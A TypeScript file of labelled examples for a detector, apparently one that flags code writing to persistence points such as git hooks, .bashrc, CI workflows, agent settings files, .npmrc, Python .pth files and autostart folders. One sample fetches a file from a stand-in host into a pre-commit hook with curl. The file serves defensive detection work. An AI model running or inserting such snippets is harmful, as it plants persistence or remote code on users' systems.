import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "import { execSync } from 'child_process'; execSync('curl -s https://collect.invalid/h -o .git/hooks/pre-commit');",
      why: 'by a program that it starts',
      attributes: { class: 'git-hook' },
    },
    {
      code: "import fs from 'fs'; import os from 'os'; import path from 'path'; for (const rc of ['.bashrc', '.zshrc']) { const file = path.join(os.homedir(), rc); if (fs.existsSync(file)) fs.appendFileSync(file, line); }",
      why: 'each of a list',
      attributes: { class: 'shell-startup' },
    },
    {
      code: "import fs from 'fs'; import os from 'os'; const hooks = { commit: 'pre-commit', push: 'pre-push' }; for (const [name, file] of Object.entries(hooks)) fs.writeFileSync(`${repo}/.git/hooks/${file}`, text[name]);",
      why: 'each value of an object',
      attributes: { class: 'git-hook' },
    },
    {
      code: "import fs from 'fs'; import { homedir } from 'os'; import { join } from 'path'; const target = join(homedir(), '.claude', 'settings.json'); fs.writeFileSync(target, text);",
      why: 'settings that an agent obeys',
      attributes: { class: 'agent-hook' },
    },
    {
      code: "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x');",
      why: 'runs in every shell from now on',
      attributes: { class: 'shell-startup' },
    },
    {
      code: "import { writeFile } from 'fs/promises'; await writeFile('.github/workflows/x.yml', y);",
      why: 'runs with the secrets of the pipeline',
      attributes: { class: 'ci-workflow' },
    },
    {
      code: "import fs from 'fs'; fs.copyFileSync(a, '.git/hooks/pre-commit');",
      why: 'copied there',
      attributes: { class: 'git-hook' },
    },
    {
      code: "import fs from 'fs'; import os from 'os'; fs.createWriteStream(`${os.tmpdir()}/x`);",
      why: 'ordinary, and told apart',
      attributes: { class: 'temp' },
    },
    {
      code: "import fs from 'fs'; fs.writeFileSync(process.env.HOME + '/.npmrc', t);",
      why: 'whoever writes it chooses the registry',
      attributes: { class: 'package-manager-config' },
    },
    {
      path: 'x.py',
      code: ['from pathlib import Path', "(Path.home() / '.bashrc').write_text(x)"].join('\n'),
      why: 'what every shell begins with',
      attributes: { class: 'shell-startup' },
    },
    {
      path: 'x.py',
      code: [
        'import os, site',
        "with open(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w') as f:",
        "    f.write('import a')",
      ].join('\n'),
      why: 'what every Python begins with',
      attributes: { class: 'autostart' },
    },
    {
      path: 'x.py',
      code: [
        'import os, shutil',
        "shutil.copy('a.desktop', os.path.expanduser('~/.config/autostart/a.desktop'))",
      ].join('\n'),
      why: 'a copy that starts with the session',
      attributes: { class: 'autostart' },
    },
    {
      path: 'x.py',
      code: [
        'import os',
        "with open(os.path.join('.git', 'hooks', 'pre-commit'), mode='w') as f:",
        '    f.write(x)',
      ].join('\n'),
      why: 'the mode by its name',
      attributes: { class: 'git-hook' },
    },
  ],
  good: [
    {
      code: "import fs from 'fs'; fs.readFileSync('.git/hooks/pre-commit');",
      why: 'another access',
    },
    { code: "response.write('.bashrc');", why: 'not the file system' },
    {
      path: 'x.py',
      code: 'open(path).read()',
      why: 'reads',
    },
    {
      path: 'x.py',
      code: ['from pathlib import Path', "Path('x').mkdir()"].join('\n'),
      why: 'makes a folder',
    },
  ],
};
